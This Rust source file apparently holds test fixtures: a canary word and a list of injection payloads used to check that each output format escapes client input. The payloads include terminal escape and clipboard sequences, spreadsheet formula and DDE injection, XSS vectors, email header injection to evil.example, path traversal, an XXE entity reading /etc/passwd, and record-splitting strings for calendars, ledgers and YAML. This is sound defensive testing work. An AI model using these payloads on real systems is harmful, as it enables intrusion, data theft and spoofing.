//! What a client may write, and what each way out must never make of it.

/// Stands in every payload, and in nothing that the program says by itself.
pub const CANARY: &str = "zqx";

/// Each tries to leave its field in its own way; the word [`CANARY`] stands where it would arrive.
pub const PAYLOADS: &[&str] = &[
    // Terminals: clear, colour, title, link, clipboard, the same in one byte, and what hides or turns.
    "\u{1b}[2J\u{1b}[1;7;31mzqx\u{1b}]0;zqx\u{7}\u{8}\u{8}",
    "\u{1b}]8;;http://zqx.example\u{1b}\\zqx\u{1b}]8;;\u{1b}\\\u{1b}]52;c;enF4\u{7}",
    "\u{9b}31mzqx\u{9d}52;c;enF4\u{9c}\u{85}\u{0}\u{7f}",
    "\u{202e}zqx\u{2066}\u{200b}\u{feff}\u{e0041}\u{2028}\u{2029}\u{ad}",
    // Sheets: formulas, and what ends a cell or a row.
    "=HYPERLINK(\"http://zqx.example\",\"zqx\")",
    "+zqx|' /C calc'!A0",
    "-2+3+zqx",
    "@SUM(zqx)",
    "\t=zqx",
    "\r=zqx",
    "zqx\",\"zqx\"\n\"zqx\",=zqx\r\nzqx;zqx",
    // Pages.
    "<script>zqx()</script><img src=x onerror=zqx()><b zqx=1>\"' onmouseover='zqx()' zqx=\"",
    "</style></script></textarea></title>--><!--zqx<svg/onload=zqx()>&zqx;<base href=//zqx.example>",
    "javascript:zqx()",
    "data:text/html,<script>zqx()</script>",
    // Letters.
    "zqx\r\nBcc: zqx@evil.example\r\nX-Zqx: 1\r\n\r\n<b zqx=1>zqx",
    "\"zqx\" <zqx@evil.example>, zqx2@evil.example",
    "=?utf-8?q?=0D=0ABcc=3A_zqx=40evil=2Eexample?=",
    "zqx\n.\nMAIL FROM:<zqx@evil.example>",
    // Paths.
    "../../../../../../tmp/zqx",
    "/tmp/zqx",
    "..\\..\\zqx",
    "zqx/../../zqx.html\u{0}.pdf",
    // Templates.
    "{{ zqx }}{% include \"zqx\" %}{# zqx #}{{ 7 * 7 }}{% raw %}zqx",
    // Calendars and address cards.
    "zqx\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nX-ZQX:1\\n\\,zqx;ZQX=1:zqx",
    "zqx\nEND:VCARD\nBEGIN:VCARD\nX-ZQX:1\\",
    // Journals of three programs.
    "zqx\n2026-01-01 * zqx\n    Assets:Zqx  100 EUR\n    Equity:Zqx\n\ninclude zqx.journal\n",
    "zqx\"\n2026-01-01 open Assets:Zqx EUR\n2026-01-01 * \"zqx",
    "zqx  ; zqx:1  100 EUR | zqx @@ 2 {1 EUR} [2026-01-01] (zqx) ! *",
    // Bookkeeping programs.
    "zqx\tTRNS\n!TRNS\tzqx\nENDTRNS\n\"zqx",
    // XML and OFX.
    "]]><zqx/>&#0;<!DOCTYPE zqx [<!ENTITY zqx SYSTEM \"file:///etc/passwd\">]>&zqx;<STMTTRN>zqx",
    // Git.
    "zqx\n\nUndoes: zqx\nBy: zqx\nErases: C-0001\nSigned-off-by: zqx",
    // YAML and JSON.
    "zqx: {[&a *a !!zqx |\n  - zqx\n...\n---\n? zqx\n\"}],\"zqx\":1",
    // Marks of texts that the office writes.
    "# zqx\n[signatures]\n- zqx\nzqx :: zqx",
];
